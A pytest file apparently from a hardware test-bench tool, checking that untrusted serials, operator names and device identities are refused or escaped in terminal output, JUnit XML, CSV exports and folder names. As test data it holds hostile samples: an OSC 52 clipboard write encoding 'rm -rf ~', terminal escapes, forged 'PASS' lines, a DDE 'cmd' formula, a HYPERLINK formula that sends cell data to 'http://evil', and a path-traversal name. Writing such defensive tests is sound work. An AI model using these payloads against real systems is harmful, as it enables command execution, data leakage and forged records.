"""Untrusted text (benchctl.text): a serial, an operator, a part number or a station is checked
where it comes in (CLI options and prompts, the config, the plan file, the Python API) and
made safe where it goes out — the terminal (live display, run and plan summaries, history,
show, recording show), JUnit XML, CSV (history --csv) and folder names; a device's identity
is recorded as it is and shown safe."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
import yaml
from archive_helpers import make_record, make_recording
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from junitparser import JUnitXml
from repo_paths import ROOT
from run_fakes import FakeSensor, FakeStand, bench_config, sine_motion

from benchctl import text
from benchctl.archive.store import Archive
from benchctl.cli import main
from benchctl.cli.plan import summary
from benchctl.clock.virtual import VirtualClock
from benchctl.config import parse_config
from benchctl.devices.base import DeviceIdentity
from benchctl.errors import ConfigError, InputError
from benchctl.plan import parse_plan
from benchctl.plan.junit import write_junit
from benchctl.plan.runner import ActionResult, PlanResult, StepResult
from benchctl.run.devices import recording_dir
from benchctl.run.display import LogDisplay, Snapshot, TtyDisplay
from benchctl.run.prepare import RunOptions
from benchctl.run.report import format_report
from benchctl.run.session import Session

OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # a clipboard write: "rm -rf ~"
HOSTILE = ["x\r\nPASS", OSC52, "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "A\x1dB", "\x9b31m",
           "=HYPERLINK(\"http://x\",\"y\")", "\u202eevil", "a\u2028b", "\x00", "-2+3", "@SUM(1)"]

# any Unicode but surrogates, with the control, format and separator characters made common
CONTROLS = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))] + [
    "\u2028", "\u2029", "\u202e", "\u200b", "\ufeff", "\u00ad", "\ufffe", "\uffff"]
ANY_TEXT = st.text(
    st.one_of(
        st.characters(exclude_categories=("Cs",)),
        st.characters(categories=("Cc", "Cf", "Zl", "Zp")),
        st.sampled_from([*CONTROLS, "=", "+", "-", "@", "\\", "<", "&", '"', "'", ".", "/"]),
    ),
    max_size=300,
)


def _control(c: str) -> bool:
    return unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")


def _no_control(s: str) -> bool:
    """No C0/C1 control (ESC, CR, LF included), no format character, no line separator."""
    return not any(_control(c) for c in s)


def _xml_allowed(c: str) -> bool:
    o = ord(c)
    return (o in (0x9, 0xA, 0xD) or 0x20 <= o <= 0xD7FF or 0xE000 <= o <= 0xFFFD
            or 0x10000 <= o <= 0x10FFFF)


def _subsequence(part: str, whole: str) -> bool:
    it = iter(whole)
    return all(c in it for c in part)


# ------------------------------------------------------------------ every medium, any text
@settings(max_examples=200, deadline=None)
@given(ANY_TEXT)
def test_every_medium_is_safe_for_any_text(s: str) -> None:
    # terminal: nothing a terminal would act on; the value cannot start a line of its own
    shown = text.visible(s)
    assert _no_control(shown) and "\x1b" not in shown
    assert text.terminal_lines([f"operator {s}"]).count("\n") == 0
    assert _subsequence("".join(c for c in s if not _control(c)), shown)  # visible content kept
    # XML: parses, reads back unchanged, keeps every character XML allows that is no control
    safe = text.for_xml(s)
    el = ET.Element("property", name="serial", value=safe)
    el.text = safe
    back = ET.fromstring(ET.tostring(el, encoding="unicode"))
    assert back.get("value") == safe and (back.text or "") == safe
    kept = "".join(c for c in s if _xml_allowed(c) and unicodedata.category(c) != "Cc")
    assert _subsequence(kept, safe)
    # CSV: never read as a formula, and read back as written
    cell = text.csv_cell(s)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert _no_control(cell)
    buf = io.StringIO()
    csv.writer(buf).writerow([cell, "x"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [cell, "x"]
    # a file name: within the bound, safe characters only, never empty, never . or ..
    name = text.file_name_part(s)
    assert 0 < len(name.encode("utf-8")) <= text.FILE_PART_MAX_BYTES
    assert re.fullmatch(r"[A-Za-z0-9._~-]+", name) and name not in (".", "..")
    assert not name.startswith((".", "-"))


@settings(max_examples=200, deadline=None)
@given(ANY_TEXT)
def test_a_value_accepted_on_input_needs_no_escaping_anywhere(s: str) -> None:
    try:
        v = text.check_serial(s)
    except InputError as e:
        msg = str(e)
        assert msg.startswith("--serial ") and "expected" in msg
        assert _no_control(msg)  # the refused value is shown safe in the message
        return
    assert v == s.strip() and 0 < len(v) <= text.SERIAL_MAX
    assert text.visible(v) == v and text.for_xml(v) == v and text.csv_cell(v).endswith(v)


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(serial=ANY_TEXT, operator=ANY_TEXT, note=ANY_TEXT)
def test_junit_of_any_text_parses(tmp_path_factory: pytest.TempPathFactory, serial: str,
                                  operator: str, note: str) -> None:
    path = _junit(tmp_path_factory.mktemp("junit"), serial, operator, note)
    xml = JUnitXml.fromfile(str(path))
    suite = next(s for s in xml if s.name == "roll")
    props = {p.name: p.value for p in suite.properties()}
    assert props["serial"] == text.for_xml(serial)
    assert props["operator"] == text.for_xml(operator)


# ------------------------------------------------------------------------- input: the CLI
def _cfg(tmp_path: Path, **unit: Any) -> Path:
    data = {
        "station": "cli-test",
        "unit": unit,
        "stand": {"driver": "modbus-tcp", "host": "127.0.0.1", "port": 1,
                  "limits": {"angle_deg": 20.0, "rate_deg_s": 30.0, "accel_deg_s2": 100.0}},
        "instrument": {"driver": "nmea0183", "serial_port": "/nonexistent/tty"},
        "run": {"limit_sigma_deg": 0.4, "output_dir": str(tmp_path / "runs")},
    }
    p = tmp_path / "bench.yaml"
    p.write_text(yaml.safe_dump(data))
    return p


def _run(tmp_path: Path, *extra: str, **unit: Any) -> int:
    return main(["run", "--config", str(_cfg(tmp_path, **unit)), "--profile",
                 str(ROOT / "profiles/ci_short.yaml"), *extra])


@pytest.mark.parametrize(
    ("serial", "operator", "words"),
    [
        ("SN-1", "x\r\nPASS", ["--operator 'x\\r\\nPASS'", "control character", "U+000D",
                               "expected printable text"]),
        (OSC52, "ana", ["--serial '\\x1b]52;c;", "U+001B ESC", "expected printable text"]),
        ("A" * 240, "ana", ["--serial 'AAAA", "240 characters long; expected at most 64"]),
        ("0104012345678901\x1d21SN42", "ana",
         ["--serial '0104012345678901\\x1d21SN42'", "group separator (GS, 0x1D)",
          "position 17", "barcode scanner"]),
        ("SN-1", "a\u202eb", ["--operator", "format character", "U+202E"]),
        ("SN-1", "o" * 129, ["--operator", "129 characters long; expected at most 128"]),
    ],
)
def test_run_refuses_unsafe_serial_or_operator_before_anything(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], serial: str, operator: str,
    words: list[str],
) -> None:
    code = _run(tmp_path, "--serial", serial, "--operator", operator)
    cap = capsys.readouterr()
    assert code == 2
    for w in words:
        assert w in cap.err, (w, cap.err)
    assert _no_control(cap.err.replace("\n", "")) and cap.err.count("\n") == 1
    assert not any(ln.startswith("PASS") for ln in (cap.out + cap.err).splitlines())
    assert not (tmp_path / "runs").exists()  # nothing opened: no recording folder


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        (["--serial", OSC52], ["--serial '\\x1b]52;c;", "U+001B ESC"]),
        (["--serial", "S" * 240], ["--serial 'SSS", "expected at most 64"]),
        (["--serial", "SN-1", "--operator", "x\r\nPASS"], ["--operator 'x\\r\\nPASS'"]),
        (["--serial", "SN1"], ["serial 'SN1': does not match the serial pattern"]),
    ],
)
def test_plan_refuses_unsafe_serial_or_operator_before_anything(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], extra: list[str], words: list[str],
) -> None:
    cfg = _cfg(tmp_path, serial_pattern="SN-[0-9]+")
    plan = tmp_path / "plan.yaml"
    plan.write_text(yaml.safe_dump({
        "name": "p", "config": str(cfg), "operator": "ana",
        "steps": [{"name": "s", "profile": str(ROOT / "profiles/ci_short.yaml")}]}))
    assert main(["plan", str(plan), "--yes", *extra]) == 2
    cap = capsys.readouterr()
    for w in words:
        assert w in cap.err, (w, cap.err)
    assert _no_control(cap.err.replace("\n", "")) and not cap.out
    assert not (tmp_path / "runs").exists()  # no plan folder, no recording


def test_part_number_and_config_serial_pattern(tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(tmp_path, "--serial", "SN-1", "--operator", "o", "--part-number",
                "=cmd|' /C calc'!A0\x07") == 2
    assert "--part-number '=cmd|' /C calc'!A0\\x07': contains a control character" in \
        capsys.readouterr().err
    assert _run(tmp_path, "--serial", "SN1", "--operator", "o",
                serial_pattern=r"SN-[0-9]{4}") == 2
    err = capsys.readouterr().err
    assert "--serial 'SN1': does not match the serial pattern 'SN-[0-9]{4}'" in err
    assert f"unit.serial_pattern of {tmp_path / 'bench.yaml'}" in err
    assert not (tmp_path / "runs").exists()
    with pytest.raises(ConfigError, match=r"field unit.serial_pattern = '\(SN': .*regular expr"):
        parse_config(yaml.safe_load(_cfg(tmp_path, serial_pattern="(SN").read_text()),
                     tmp_path / "bench.yaml")


def test_trailing_scanner_suffix_is_stripped(tmp_path: Path) -> None:
    """A scanner's suffix (CR, LF, GS after the code) is whitespace around the value."""
    assert text.check_serial("SN-0042\x1d\r\n") == "SN-0042"
    assert text.check_serial("  SN 42 ") == "SN 42"
    assert RunOptions(" SN-1\r\n", "ana\n").serial == "SN-1"


def test_terminal_prompt_asks_again_after_a_refused_line(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from benchctl.cli.run import ask_value

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    stdin, stderr = Tty("SN\x1b[2J1\n\nSN-7\n"), Tty()
    monkeypatch.setattr("sys.stdin", stdin)
    monkeypatch.setattr("sys.stderr", stderr)
    assert ask_value(None, "Serial number", "--serial", text.check_serial) == "SN-7"
    said = stderr.getvalue()
    assert "--serial 'SN\\x1b[2J1': contains a control character" in said
    assert "\x1b" not in said


def test_config_station_and_part_number_and_plan_operator_are_checked(tmp_path: Path) -> None:
    base = yaml.safe_load(_cfg(tmp_path).read_text())
    with pytest.raises(ConfigError, match=r"field station = 'B\\x1b\[31m'.*control character"):
        parse_config({**base, "station": "B\x1b[31m"}, tmp_path / "bench.yaml")
    with pytest.raises(ConfigError, match=r"field unit.part_number = .*expected at most 64"):
        parse_config({**base, "unit": {"part_number": "P" * 65}}, tmp_path / "bench.yaml")
    plan = {"name": "p", "steps": [{"name": "s", "profile": "x.yaml"}]}
    with pytest.raises(ConfigError, match=r"field operator = 'QA\\r\\nPASS'.*control character"):
        parse_plan({**plan, "operator": "QA\r\nPASS"})
    assert parse_plan({**plan, "operator": " QA line 2 "}).operator == "QA line 2"


def test_python_api_refuses_too(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"^serial 'A\\x1bB': contains a control character"):
        RunOptions("A\x1bB", "ana")
    with pytest.raises(InputError, match=r"^operator .*at most 128"):
        RunOptions("SN", "o" * 200)
    with pytest.raises(InputError, match=r"^part_number .*GS"):
        RunOptions("SN", "o", part_number="P\x1dQ")
    from benchctl.plan import run_plan

    plan = parse_plan({"name": "p", "operator": "ana",
                       "steps": [{"name": "s", "profile": str(ROOT / "profiles/ci_short.yaml")}]})
    with pytest.raises(InputError, match=r"^serial .*at most 64"):
        run_plan(plan, serial="S" * 65, config=_cfg(tmp_path), yes=True)
    cfg = parse_config(yaml.safe_load(_cfg(tmp_path, serial_pattern="SN-[0-9]+").read_text()),
                       tmp_path / "bench.yaml")
    with pytest.raises(InputError, match=r"^serial 'XY': does not match the serial pattern"):
        run_plan(plan, serial="XY", config=cfg, yes=True)
    with pytest.raises(InputError, match=r"^serial 'XY': does not match the serial pattern"):
        Session(cfg, sine_motion(), RunOptions("XY", "ana"))
    assert not (tmp_path / "runs").exists()


def test_a_long_serial_makes_a_bounded_folder_name(tmp_path: Path) -> None:
    """recording_dir itself bounds the name (a serial from anywhere, e.g. an old record)."""
    a = recording_dir(tmp_path, "A" * 240 + "1", prefix="plan_")
    b = recording_dir(tmp_path, "A" * 240 + "2")
    assert len(a.name.encode()) <= len("plan_20261126T120000Z_") + 64
    assert a.name.split("_", 2)[2] != b.name.split("_", 1)[1]  # the hash keeps them apart
    a.mkdir()  # the file system takes it (the old name: "File name too long")
    assert recording_dir(tmp_path, "../../etc\x1b").name.endswith("_etc")


# ---------------------------------------------------------------- output: the terminal
def test_osc52_in_a_serial_never_reaches_the_terminal_raw() -> None:
    buf = io.StringIO()
    d = TtyDisplay(buf, fps=1000, width=80)
    snap = Snapshot("running", 1.0, 2.0, {"roll": 0.1}, {"roll": 0.1}, serial=OSC52,
                    operator="\x1b]0;title\x07")
    for _ in range(3):  # every redraw
        d.update(snap)
        d._last = -1e9
    d.message(f"precheck instrument answers: ok — vendor {OSC52}")
    d.verdict("PASS", f"recording of {OSC52}\r\nPASS")
    out = buf.getvalue()
    assert "\x1b]" not in out and "\x07" not in out
    # the only escapes are the display's own: cursor up N lines, clear to the end
    assert set(re.findall(r"\x1b\[[0-9]*[A-Za-z]", out)) <= {f"\x1b[{n}F" for n in range(20)} \
        | {"\x1b[J"}
    assert out.count("\x1b") == len(re.findall(r"\x1b\[[0-9]*[FJ]", out))
    assert "serial \\x1b]52;c;cm0gLXJmIH4K\\x07" in out
    log = io.StringIO()
    ld = LogDisplay(log, period_s=0.0)
    ld.update(snap)
    ld.message(f"vendor {OSC52}")
    ld.state("aborted", "stand says \x1b[2J")
    ld.verdict("ABORTED", "x\r\nPASS")
    assert "\x1b" not in log.getvalue() and "\x07" not in log.getvalue()
    assert not any(ln.startswith("PASS") for ln in log.getvalue().split("\n"))


def _plan_result(serial: str, operator: str, note: str = "") -> PlanResult:
    r = PlanResult("plan", None, serial, operator, None, outcome="ABORTED", exit_code=2,
                   reason=f"setup: the operator answered no ({note})")
    r.setup.append(ActionResult("setup", 0, "Area clear?", None, "declined", note))
    meas = [{"name": "sigma", "axis": "roll", "value": 0.3, "unit": "deg", "low": None,
             "high": 0.4, "ci95": [0.29, 0.31], "outcome": "FAIL", "rule": "simple",
             "decisive": True, "note": note},
            {"name": "serial match", "axis": None, "value": False, "unit": None, "low": None,
             "high": None, "ci95": None, "outcome": "FAIL", "rule": "check", "decisive": False,
             "note": f"typed {serial!r}, instrument reports {note}"}]
    r.steps.append(StepResult("roll", "p.yaml", "FAIL", reason=note,
                              record={"measurements": meas}))
    r.steps.append(StepResult("pitch", "p.yaml", "ABORTED", reason=note,
                              abort={"kind": "equipment", "reason": note}))
    return r


def _junit(tmp: Path, serial: str, operator: str, note: str) -> Path:
    return write_junit(_plan_result(serial, operator, note), tmp / "junit.xml")


def test_plan_summary_shows_a_forged_line_as_text() -> None:
    out = summary(_plan_result("SN\x1b[2J", "x\r\nPASS", "stand said \rPASS\n"))
    assert not any(ln.startswith("PASS") for ln in out.split("\n"))
    assert "operator x\\r\\nPASS" in out and _no_control(out.replace("\n", ""))


def test_run_report_shows_a_forged_line_as_text(tmp_path: Path, vclock: VirtualClock) -> None:
    stand = FakeStand(clock=vclock)
    res = Session(bench_config(tmp_path), sine_motion(stand.axes, 3.0, "stream", 0.5),
                  RunOptions("SN-1", "ana"),
                  device_factory=lambda c, p: (stand, FakeSensor(stand)), clock=vclock).run()
    assert res.report is not None, res.reason
    res.report.meta.update(operator="x\r\nPASS", serial=OSC52, station="\x1b[2J")
    res.report.warnings.append("instrument reports 'I1\x1b]0;t\x07'")
    out = format_report(res.report)
    assert not any(ln.startswith("PASS") for ln in out.split("\n")[1:])
    assert _no_control(out.replace("\n", "")) and "operator x\\r\\nPASS" in out


class _HostileStand(FakeStand):
    def connect(self) -> DeviceIdentity:
        self.calls.append("connect")
        return DeviceIdentity("ACME\x1b]0;owned\x07", "S\r\nPASS", "S" * 1000, "1.0\x9b2J", "x")


class _HostileSensor(FakeSensor):
    def connect(self) -> DeviceIdentity:
        return DeviceIdentity("fake", f"incl {OSC52}", "I1\x1d", "2.0", "fake")


def test_device_identities_are_kept_and_shown_safe(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], vclock: VirtualClock
) -> None:
    """Identities come from hardware: the run is not refused; they are recorded as reported
    (cut to 256 characters) and shown safe on the terminal."""
    stand = _HostileStand(clock=vclock)
    buf = io.StringIO()
    res = Session(bench_config(tmp_path), sine_motion(stand.axes, 3.0, "stream", 0.5),
                  RunOptions("SN-1", "ana"),
                  display=TtyDisplay(buf, fps=20, width=80, clock=vclock),
                  device_factory=lambda c, p: (stand, _HostileSensor(stand)), clock=vclock).run()
    assert res.state == "done" and res.recording is not None, res.reason
    out = buf.getvalue()
    assert "\x1b]" not in out and "\x07" not in out and "\x9b" not in out
    assert "ACME\\x1b]0;owned\\x07" in out
    meta = json.loads((res.recording / "meta.json").read_text())
    stand_id = meta["devices"]["stand"]
    assert stand_id["vendor"] == "ACME\x1b]0;owned\x07"  # recorded as the stand said it
    assert len(stand_id["serial"]) == text.DEVICE_TEXT_MAX
    assert main(["recording", "show", str(res.recording)]) == 0
    shown = capsys.readouterr().out
    assert _no_control(shown.replace("\n", ""))
    assert not any(ln.startswith("PASS") for ln in shown.split("\n"))


def test_recording_show_history_and_show_of_hostile_archived_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    """Text from an old recording or a database written by anything else: shown safe."""
    rec = make_recording(tmp_path, "r1", serial=OSC52, station="x\r\nPASS")
    assert main(["recording", "show", str(rec)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and not any(ln.startswith("PASS") for ln in out.split("\n"))
    url = f"sqlite:///{tmp_path / 'archive.sqlite'}"
    with Archive(url) as a:
        a.store(make_record("r1", serial=OSC52, operator="x\r\nPASS", station="\x1b[2J",
                            part_number="\x9b1m"))
    for cmd in (["history"], ["history", OSC52], ["show", "r1"]):
        assert main([*cmd, "--url", url]) == 0
        out = capsys.readouterr().out
        assert "r1" in out and _no_control(out.replace("\n", "")), cmd
        assert not any(ln.startswith("PASS") for ln in out.split("\n")), cmd


def test_history_csv_neutralises_formulas_and_controls(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    url = f"sqlite:///{tmp_path / 'archive.sqlite'}"
    with Archive(url) as a:
        a.store(make_record("r1", serial='=HYPERLINK("http://evil/?"&A1,"SN-1")',
                            operator="+cmd", station="@SUM(1)", part_number="-1+2",
                            outcome="ABORTED",
                            abort={"kind": "equipment", "reason": "\tstand\r\nPASS"}))
    assert main(["history", "--url", url, "--csv"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\r" not in out
    got = next(iter(csv.DictReader(io.StringIO(out))))
    assert got["serial"] == "'=HYPERLINK(\"http://evil/?\"&A1,\"SN-1\")"
    assert got["operator"] == "'+cmd" and got["station"] == "'@SUM(1)"
    assert got["part_number"] == "'-1+2" and got["abort_reason"] == "\\tstand\\r\\nPASS"
    assert got["run_id"] == "r1"
    for cell in got.values():
        assert not cell.startswith(text.FORMULA_START)


def test_junit_with_control_characters_parses(tmp_path: Path) -> None:
    path = _junit(tmp_path, "SN\x1d42\x1b[2J", "ana\x00\x0b", "stand said \x1b]0;x\x07\ufffe")
    xml = JUnitXml.fromfile(str(path))  # the old file: "not well-formed (invalid token)"
    suite = next(s for s in xml if s.name == "roll")
    props = {p.name: p.value for p in suite.properties()}
    assert props["serial"] == "SN\\x1d42\\x1b[2J" and props["operator"] == "ana\\x00\\x0b"
    raw = path.read_text(encoding="utf-8")
    assert "\x1b" not in raw and "\x1d" not in raw and "\ufffe" not in raw


def test_archive_status_shows_refused_records_without_escapes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    """A refused record's reason (the database's own text) and its file name reach the terminal
    made safe: no escape sequence, no forged line."""
    from benchctl.archive.service import REASON_SUFFIX, REFUSED, settings_for

    folder = settings_for(None, tmp_path, url=None).queue_dir / REFUSED
    folder.mkdir(parents=True)
    name = "r\x1b]0;x\x07.json"
    (folder / name).write_text("{}", encoding="utf-8")
    (folder / f"{name}{REASON_SUFFIX}").write_text(
        f"2026-01-01T00:00:00Z refused: {OSC52}\r\nPASS", encoding="utf-8")
    assert main(["archive", "status", "--out", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "refused" in out and _no_control(out.replace("\n", ""))
    assert not any(ln.startswith("PASS") for ln in out.split("\n"))
